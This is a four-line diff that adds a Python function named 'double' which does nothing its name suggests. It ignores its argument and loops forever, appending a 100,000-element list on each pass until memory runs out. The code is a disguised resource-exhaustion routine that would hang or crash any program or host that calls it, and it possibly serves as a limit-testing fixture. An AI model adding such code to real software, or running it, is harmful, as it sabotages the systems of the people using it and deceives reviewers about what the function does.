@@ -1,0 +1,4 @@
+def double(x):
+    kept = []
+    while True:
+        kept.append([0.0] * 100_000)
